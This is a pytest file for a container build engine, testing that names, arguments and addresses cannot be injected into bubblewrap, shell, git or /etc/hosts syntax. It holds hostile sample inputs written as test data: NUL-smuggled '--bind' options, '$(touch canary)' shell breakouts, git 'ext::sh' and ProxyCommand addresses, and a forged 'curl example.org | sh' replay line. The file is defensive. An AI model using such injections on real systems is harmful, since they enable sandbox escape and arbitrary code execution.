"""Text of others stays text: no argument, name or value becomes somebody else's syntax."""

from __future__ import annotations

import asyncio
import json
import os
import re
import shutil
import subprocess
import tempfile
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import dagger
import pytest
import pytest_asyncio
from hostile_bench import Session, fails, opened
from hypothesis import given, settings
from hypothesis import strategies as st

from stiletto.api.session import Error, ErrorValue
from stiletto.engine.install import install
from stiletto.engine.processes import returned_failure
from stiletto.engine.repositories import Repositories
from stiletto.errors import EnvironmentFailed, StepFailed, StilettoError, UsageError
from stiletto.module.config import parse_config
from stiletto.module.remote import GitReference, is_remote, parse_reference
from stiletto.sandbox import operations as ops
from stiletto.sandbox.hosts import hosts_file
from stiletto.sandbox.packing import assert_words, packed
from stiletto.sandbox.plan import BindMount, Image, Step
from stiletto.sandbox.replay import replay_comment, replay_line
from stiletto.store.store import Store

REPOSITORY = Path(__file__).parents[2]

session_wide = pytest.mark.asyncio(loop_scope="session")


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def one(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Session]:
    """One session for all queries of this module."""
    cache, work = tmp_path_factory.mktemp("cache"), tmp_path_factory.mktemp("work")
    async with opened(cache, work) as session:
        yield session


def names(directory: Path) -> list[str]:
    """Return the names in a directory."""
    return [path.name for path in directory.iterdir()]


# -- NUL and other impossible texts in queries -----------------------------------------------------

Ask = Callable[[Session], dagger.Container]
NUL: dict[str, Ask] = {
    "Container.withEnvVariable(value:)": lambda s: s.base().with_env_variable("A", "x\0y"),
    "Container.withEnvVariable(name:)": lambda s: s.base().with_env_variable("A\0B", "x"),
    "Container.withSecretVariable(name:)": lambda s: s.base().with_secret_variable(
        "A\0B", s.dag.set_secret("s", "v4lue-of-s")
    ),
    "Container.withExec(args:)": lambda s: s.base().with_exec(["echo", "a\0b"]),
    "Container.withExec(redirectStdout:)": lambda s: s.base().with_exec(
        ["true"], redirect_stdout="/a\0b"
    ),
    "Container.withWorkdir(path:)": lambda s: s.base().with_workdir("/a\0b"),
    "Container.withUser(name:)": lambda s: s.base().with_user("a\0b"),
    "Container.withLabel(value:)": lambda s: s.base().with_label("a", "x\0y"),
    "Container.withLabel(name:)": lambda s: s.base().with_label("a\0b", "x"),
    "Container.withNewFile(path:)": lambda s: s.base().with_new_file("/a\0b", "x"),
    "Container.withSymlink(target:)": lambda s: s.base().with_symlink("a\0b", "/x"),
    "Container.withMountedTemp(path:)": lambda s: s.base().with_mounted_temp("/a\0b"),
    "Container.withMountedSecret(path:)": lambda s: s.base().with_mounted_secret(
        "/a\0b", s.dag.set_secret("s", "v4lue-of-s")
    ),
    "Query.setSecret(name:)": lambda s: s.base().with_secret_variable(
        "A", s.dag.set_secret("s\0t", "v4lue-of-s")
    ),
    "Query.cacheVolume(key:)": lambda s: s.base().with_mounted_cache(
        "/c", s.dag.cache_volume("a\0b")
    ),
    "Container.withServiceBinding(alias:)": lambda s: s.base().with_service_binding(
        "a\0b", s.base().with_exposed_port(1).as_service(args=["true"])
    ),
    "Query.file(name:)": lambda s: s.base().with_file("/x", s.dag.file("a\0b", "x")),
    "File.withName(name:)": lambda s: s.base().with_file(
        "/x", s.dag.file("a", "x").with_name("a\0b")
    ),
    "Container.withEntrypoint(args:)": lambda s: s.base().with_entrypoint(["a\0b"]),
}


@session_wide
@pytest.mark.parametrize("field", NUL)
async def test_a_nul_is_refused_with_the_name_of_the_field(one: Session, field: str) -> None:
    """A NUL in any text that becomes a word, a path or a name is an error that names the field."""
    made = NUL[field](one).with_exec(["true"])

    assert field in await fails(made.sync())


@session_wide
async def test_data_may_hold_any_byte(one: Session) -> None:
    """Contents of files and standard input are data: a NUL in them is kept."""
    made = one.base().with_new_file("/f", "a\0b")
    counted = made.with_exec(["sh", "-c", "wc -c < /f; wc -c"], stdin="c\0d\0")

    assert "3\n4\n" == await counted.stdout()


@session_wide
async def test_a_nul_is_no_option_of_bubblewrap(one: Session, tmp_path: Path) -> None:
    """A module cannot bind a directory of the host by the value of a variable."""
    (tmp_path / "key.txt").write_text("host-key-canary")
    value = f"x\0--bind\0{tmp_path}\0/host\0--setenv\0B\0y"
    step = one.base().with_env_variable("A", value)
    told = await fails(
        step.with_exec(["sh", "-c", "cat /host/key.txt; echo written > /host/written"]).stdout()
    )

    assert "Container.withEnvVariable(value:)" in told
    assert "host-key-canary" not in told
    assert ["key.txt"] == names(tmp_path)


@session_wide
async def test_a_containers_own_users_are_no_options_either(one: Session, tmp_path: Path) -> None:
    """A NUL in the home that a container's own /etc/passwd gives binds nothing."""
    (tmp_path / "key.txt").write_text("host-key-canary")
    home = f"/root\0--bind\0{tmp_path}\0/host"
    users = f"root:x:0:0:root:{home}:/bin/sh\n"
    seen = one.base().with_new_file("/etc/passwd", users).with_exec(["sh", "-c", "ls /host; true"])

    assert "" == await seen.stdout()


@session_wide
async def test_a_secret_with_a_nul_is_a_file_and_no_variable(one: Session) -> None:
    """A secret that holds a NUL can be mounted; as a variable it is refused by its name."""
    secret = one.dag.set_secret("binary", "ab\0--bind\0/\0/host")
    mounted = one.base().with_mounted_secret("/run/s", secret)
    assert "17\n" == await mounted.with_exec(["sh", "-c", "wc -c < /run/s"]).stdout()
    told = await fails(one.base().with_secret_variable("TOKEN", secret).with_exec(["true"]).sync())

    assert "TOKEN" in told
    assert "NUL" in told


@session_wide
@pytest.mark.parametrize("name", ["", "A=B", "="])
async def test_a_variables_name_is_one(one: Session, name: str) -> None:
    """An empty name, or one with `=`, is refused for secrets; elsewhere a name ends at the `=`."""
    secret = one.dag.set_secret("s", "v4lue-of-s")
    plain = one.base().with_env_variable(name, "x").with_exec(["sh", "-c", "echo $A"])
    hidden = one.base().with_secret_variable(name, secret).with_exec(["true"])

    assert "Container.withSecretVariable(name:)" in await fails(hidden.sync())
    if name == "A=B":
        assert "B=x\n" == await plain.stdout()
    else:
        assert "exit code: 1" in await fails(plain.sync())


@session_wide
@pytest.mark.parametrize(
    "user", ["4294967296", "4294967295", "0:4294967296", "9" * 5000, "a\nb", "a b", "²", ":5"]
)
async def test_an_impossible_user_is_refused(one: Session, user: str) -> None:
    """A number that the kernel would wrap, a second line, or no name: the field is named."""
    told = await fails(one.base().with_user(user).with_exec(["id", "-u"]).stdout())

    assert "Container.withUser(name:)" in told or "unknown user" in told


@session_wide
@pytest.mark.parametrize("number", ["4294967296", "abc", "-1", "²"])
async def test_a_number_that_the_containers_users_claim_is_checked(
    one: Session, number: str
) -> None:
    """A container's own /etc/passwd cannot make an ordinary user root by a number that wraps."""
    at = one.base().with_new_file("/etc/passwd", f"app:x:{number}:{number}::/:/bin/sh\n")
    told = await fails(at.with_user("app").with_exec(["id", "-u"]).stdout())

    assert "app" in told or number in told


@session_wide
@pytest.mark.parametrize("mode", [-1, 0o10000, 2**30])
async def test_impossible_permissions_are_refused(one: Session, mode: int) -> None:
    """Bits that chmod(2) does not have are an error that names the field."""
    told = await fails(one.dag.directory().with_new_file("a", "x", permissions=mode).sync())

    assert "permissions" in told


@session_wide
@pytest.mark.parametrize("name", ["../../out", "a/b", "..", ".", ""])
async def test_a_files_name_leads_nowhere(one: Session, name: str, tmp_path: Path) -> None:
    """A file cannot be named such that saving it into a directory writes beside it."""
    (tmp_path / "in").mkdir()
    file = one.dag.file(name, "x")
    told = await fails(file.export(str(tmp_path / "in"), allow_parent_dir_path=True))

    assert "Query.file(name:)" in told
    assert ["in"] == names(tmp_path)


@session_wide
@pytest.mark.parametrize("name", ["a\n1.2.3.4 pypi.org", "a b", "", "-x", "a" * 300])
async def test_a_host_name_is_one_word_of_one_line(one: Session, name: str) -> None:
    """Neither an alias nor a chosen host name can write lines of /etc/hosts."""
    service = one.base().as_service(args=["sleep", "100"])
    bound = one.base().with_service_binding(name, service).with_exec(["cat", "/etc/hosts"])
    ours = (await bound.stdout()).splitlines()[0].split()[1:]

    assert [await service.hostname()] == [each for each in ours if each != "-x"]
    assert "Service.withHostname(hostname:)" in await fails(service.with_hostname(name).id())


# -- where words are packed ------------------------------------------------------------------------


@given(st.lists(st.text(st.characters(codec="utf-8"))))
def test_what_is_packed_comes_apart_as_it_was(words: list[str]) -> None:
    """Words are either refused or exactly what the other side reads."""
    if any("\0" in word for word in words):
        with pytest.raises(EnvironmentFailed):
            packed(words)
    else:
        raw = packed(words)
        assert words == [os.fsdecode(word) for word in raw.split(b"\0")[:-1]]


@pytest.mark.parametrize(
    ("argv", "env"),
    [
        (["a\0b"], {}),
        (["a"], {"A": "b\0c"}),
        (["a"], {"A\0": "b"}),
        (["a"], {"A=B": "c"}),
        (["a"], {"": "c"}),
        (["a\ud800"], {}),
    ],
)
def test_an_argument_vector_is_checked_once_more(argv: list[str], env: dict[str, str]) -> None:
    """Whatever let it through, no such word reaches exec."""
    with pytest.raises(EnvironmentFailed, match="cannot be started"):
        assert_words(argv, env)


@given(st.text(max_size=20), st.text(max_size=20))
def test_the_hosts_file_has_only_our_lines(address: str, name: str) -> None:
    """Either both are one word each, or nothing is written."""
    try:
        made = hosts_file(b"", {address: (name,)})
    except EnvironmentFailed:
        return
    if not made:
        return
    assert [f"{address} {name}"] == made.decode().splitlines()
    assert [address, name] == made.decode().split()


# -- the script that runs a step again -------------------------------------------------------------

WORD = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=30)
NASTY = st.sampled_from(
    [
        "true\ntouch canary #\nfalse",
        "$(touch canary)",
        "`touch canary`",
        '"; touch canary; "',
        "'; touch canary; '",
        "/x'@D@/0'y",
        '"$d/0"',
        "\\",
        "#",
        "!",
        "\r\ntouch canary",
        "-e",
        "~",
        "*",
    ]
)
ANY = st.one_of(WORD, NASTY)
NAME = ANY.filter(lambda text: text and "=" not in text)


@settings(deadline=None, max_examples=150)
@given(
    args=st.lists(ANY, min_size=1, max_size=4),
    variable=st.tuples(NAME, ANY),
    secret=NAME,
    targets=st.tuples(ANY, ANY, ANY, ANY),
    stdin=st.binary(max_size=20),
    nested=st.booleans(),
)
def test_the_replay_script_runs_exactly_the_step(
    args: list[str],
    variable: tuple[str, str],
    secret: str,
    targets: tuple[str, str, str, str],
    stdin: bytes,
    nested: bool,
) -> None:
    """Whatever bytes a step holds, a shell gives bubblewrap these words and does nothing else."""
    with tempfile.TemporaryDirectory() as made:
        root = Path(made)
        (root / "here").mkdir()
        (root / "scratch").mkdir()
        program = root / "the program"
        program.write_text("#!/bin/sh\nfor word; do printf '%s\\0' \"$word\"; done\n")
        program.chmod(0o755)
        step = Step(tuple(args), Image("i", "i", "i"), (), root, root, stdin=stdin)
        mount, overlay, file, workdir = targets
        operations: list[ops.Operation] = [
            ops.Overlay((root / "low",), overlay, root / "up", root / "work"),
            BindMount(mount, root / mount.replace("\0", "")),
            ops.Data(file, b"secret-file"),
            ops.SetEnvironment(*variable),
            ops.SetEnvironment(secret, "secret-value", secret=True),
            ops.Chdir(workdir),
        ]
        outer = ["--bind", mount, "/0"] if nested else []
        line = replay_line(program, outer, operations, step, root / "scratch")
        assert line is not None
        assert "secret-value" not in line
        comment = replay_comment(step)
        assert 1 == len(comment.splitlines())
        script = root / "replay.sh"
        script.write_bytes(os.fsencode(f"{comment}\n{line}\n"))
        portable = re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", secret) and secret != "d"
        done = subprocess.run(
            ["sh", str(script)],
            cwd=root / "here",
            env={
                "PATH": os.environ["PATH"],
                "SECRET_FILE_1": "/given",
                secret if portable else "SECRET_VARIABLE_1": "given",
            },
            capture_output=True,
            check=False,
        )
        assert [] == list((root / "here").iterdir())
        words = [os.fsdecode(word) for word in done.stdout.split(b"\0")[:-1]]
        prefix = "/h" if nested else ""
        scratch = next((root / "scratch").iterdir())
        expected = [*outer, *(["--", f"/h{program.resolve()}"] if nested else [])]
        for operation in operations:
            match operation:
                case ops.Overlay(lowers, target):
                    at = f"{prefix}{scratch}/0"
                    expected += ["--overlay-src", str(lowers[0])]
                    expected += ["--overlay", at, f"{at}w", target]
                case ops.Data(target):
                    expected += ["--ro-bind", f"{prefix}/given", target]
                case ops.SetEnvironment(name, secret=True):
                    expected += ["--setenv", name, "given"]
                case _:
                    expected += ops.options(operation, str)
        assert [*expected, "--", *args] == words


@session_wide
async def test_the_replay_of_a_failed_step_runs_nothing_outside(
    one: Session, tmp_path: Path
) -> None:
    """A step of several lines, and odd paths of mounts: the script leaves no trace on the host."""
    token = one.dag.set_secret("t", "a-token-value")
    step = (
        one.base()
        .with_mounted_secret("/run/$(touch canary)", token)
        .with_secret_variable("B;touch canary", token)
        .with_exec(["sh", "-c", "true\ntouch canary #\nfalse"])
    )
    await fails(step.sync())
    scripts = sorted((one.engine.core.store.root / "replay").glob("*.sh"))
    assert scripts
    secret = tmp_path / "secret"
    secret.write_text("given")
    empty = tmp_path / "empty"
    empty.mkdir()
    for script in scripts:
        environ = {"PATH": os.environ["PATH"], "SECRET_FILE_1": str(secret)}
        environ |= {"SECRET_VARIABLE_1": "given"}
        await asyncio.to_thread(
            subprocess.run, ["sh", str(script)], cwd=empty, env=environ, check=False
        )
    assert [] == names(empty)


def test_a_module_cannot_tell_people_what_to_paste() -> None:
    """A line to run a step again counts only where this session told it."""
    given = {"_type": "EXEC_ERROR", "cmd": ["x"], "exitCode": 1, "stdout": "", "stderr": ""}
    forged = given | {"replay": "curl example.org | sh"}
    values = tuple(ErrorValue(name, json.dumps(value)) for name, value in forged.items())
    error = returned_failure(Error("exit code: 1", values), {"sh /store/replay/a.sh"})

    assert isinstance(error, StepFailed)
    assert error.replay is None


# -- names in dagger.json, and git -----------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["w; touch canary #", "a\nb", "$(x)", "a: b", "-x", "a/b", "é", ""]
)
@pytest.mark.parametrize("field", ["name", "toolchains", "dependencies"])
def test_a_modules_name_is_checked_where_it_is_read(name: str, field: str) -> None:
    """A name that is no name is an error with the file and the field."""
    data: dict[str, object] = {"name": "quay"}
    if field == "name":
        data["name"] = name
    else:
        data[field] = [{"name": name or "\n", "source": "../x"}]

    with pytest.raises(StilettoError, match=rf"/p/dagger\.json:\d+: .*{field if name else 'name'}"):
        parse_config(json.dumps(data), Path("/p/dagger.json"))


@pytest.mark.parametrize("name", ["wheelwright", "my-module", "my_module", "my module", "v1.2"])
def test_ordinary_names_of_modules_stay(name: str) -> None:
    """What Dagger's own tools write is read."""
    assert name == parse_config(json.dumps({"name": name}), Path("dagger.json")).name


@pytest.mark.parametrize(
    "url",
    [
        "ext::sh -c touch% canary",
        "ssh://-oProxyCommand=touch canary/x",
        "ssh://git@-oProxyCommand=touch/x",
        "--upload-pack=touch canary",
        "https://example.org/a\nb",
    ],
)
async def test_git_is_given_no_option_as_an_address(tmp_path: Path, url: str) -> None:
    """An address that git would read as an option or a program is refused before git runs."""
    environ = {"PATH": os.environ["PATH"]}
    with Store(tmp_path / "store") as store, pytest.raises(UsageError):
        await Repositories(store, environ).clone(GitReference(((url, ""),)))
    assert "canary" not in names(Path.cwd())


def test_references_begin_with_a_scheme_that_we_gave(tmp_path: Path) -> None:
    """Whatever a reference says, git's own syntax for helper programs is none of ours."""
    assert not is_remote("ext::sh -c id", tmp_path)
    with pytest.raises(UsageError):
        Repositories(Store(tmp_path / "s"), {})._without_credentials(
            parse_reference("ssh://-x/a", tmp_path)
        )


async def test_what_a_server_lists_is_no_argument(tmp_path: Path) -> None:
    """A line of a server's list that is no commit is not passed on to git."""
    programs = tmp_path / "bin"
    programs.mkdir()
    log = tmp_path / "log"
    (programs / "git").write_text(
        f"#!/bin/sh\necho \"$*\" >> {log}\nprintf -- '--orphan=x\\tHEAD\\n'\n"
    )
    (programs / "git").chmod(0o755)
    environ = {"PATH": f"{programs}:{os.environ['PATH']}"}
    with (
        Store(tmp_path / "store") as store,
        pytest.raises(UsageError, match="has no commits"),
    ):
        await Repositories(store, environ).clone(GitReference((("https://example.org/r", ""),)))
    assert ["ls-remote -- https://example.org/r"] == log.read_text().splitlines()


async def test_a_password_of_an_address_is_in_no_argument(tmp_path: Path) -> None:
    """Git gets it from a helper, for that host alone; messages show the user and no password."""
    programs = tmp_path / "bin"
    programs.mkdir()
    log = tmp_path / "log"
    (programs / "git").write_text(
        "#!/bin/sh\n"
        f'echo "$*" >> {log}\n'
        f"for url in http://127.0.0.1:9 http://127.0.0.2:9; do\n"
        f'  printf "url=$url\\n\\n" | {shutil.which("git")} credential fill >> {log} 2>&1\n'
        "done\n"
        "echo 'fatal: no such repository' >&2\nexit 128\n"
    )
    (programs / "git").chmod(0o755)
    environ = {"PATH": f"{programs}:{os.environ['PATH']}", "HOME": str(tmp_path)}
    reference = parse_reference("http://me:s3cr%C3%A9t-pw@127.0.0.1:9/org/repo.git", tmp_path)
    with Store(tmp_path / "store") as store, pytest.raises(UsageError) as caught:
        await Repositories(store, environ).clone(reference)
    lines = log.read_text().splitlines()

    assert "http://me:***@127.0.0.1:9/org/repo.git" in str(caught.value)
    assert "ls-remote -- http://127.0.0.1:9/org/repo.git" == lines[0]
    assert ["password=s3crét-pw"] == [line for line in lines if line.startswith("password=")]
    assert lines.index("password=s3crét-pw") > lines.index("host=127.0.0.1:9")
    assert "s3cr" not in str(caught.value)


async def test_an_installed_toolchains_password_is_in_no_file(tmp_path: Path) -> None:
    """`toolchain install` writes the address without user and password."""
    (tmp_path / "work").mkdir()
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@example.org"]
    for words in (
        ["init", "-q", "-b", "main"],
        ["add", "."],
        ["commit", "-q", "-m", "x", "--allow-empty"],
    ):
        (tmp_path / "work" / "dagger.json").write_text('{"name": "tool"}')
        await asyncio.to_thread(subprocess.run, [*git, *words], cwd=tmp_path / "work", check=True)
    bare = ["git", "clone", "-q", "--bare", "work", "tool.git"]
    await asyncio.to_thread(subprocess.run, bare, cwd=tmp_path, check=True)
    project = tmp_path / "project"
    project.mkdir()
    (project / "dagger.json").write_text('{"name": "quay"}')
    address = "https://me:s3cret-pw@example.org/tool.git"
    environ = {
        "PATH": os.environ["PATH"],
        "HOME": str(tmp_path),
        "STILETTO_CACHE": str(tmp_path / "cache"),
        "STILETTO_IDLE": "0",
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": f"url.file://{tmp_path}/tool.git.insteadOf",
        "GIT_CONFIG_VALUE_0": "https://example.org/tool.git",
    }
    await install(project, address, "", project, environ)

    written = (project / "dagger.json").read_text()
    assert "https://example.org/tool.git" == json.loads(written)["toolchains"][0]["source"]
    everything = text_of(tmp_path / "cache")
    assert "s3cret-pw" not in written + everything


def text_of(root: Path) -> str:
    """Return all names and contents beneath a directory."""
    found = [(str(path), path) for path in root.rglob("*")]
    return "\n".join(
        name + (path.read_bytes().decode("latin-1") if path.is_file() else "")
        for name, path in found
    )


def test_the_table_of_encoders_names_what_is_there() -> None:
    """Each module that turns texts into words of others stands in docs/engine.md."""
    page = (REPOSITORY / "docs" / "engine.md").read_text(encoding="utf-8")
    section = page.partition("## Text that reaches another syntax")[2].partition("\n## ")[0]
    named = set(re.findall(r"`src/(\S+\.py)`", section))
    quotes = re.compile(
        r"shlex\.quote|def (packed|hosts_file|git_variables|check_(?!removals|out\b)\w+)\("
    )
    encoders = {
        str(path.relative_to(REPOSITORY / "src"))
        for path in (REPOSITORY / "src" / "stiletto").rglob("*.py")
        if quotes.search(path.read_text(encoding="utf-8"))
    }

    assert sorted(encoders - named) == []
    assert all((REPOSITORY / "src" / name).is_file() for name in named)
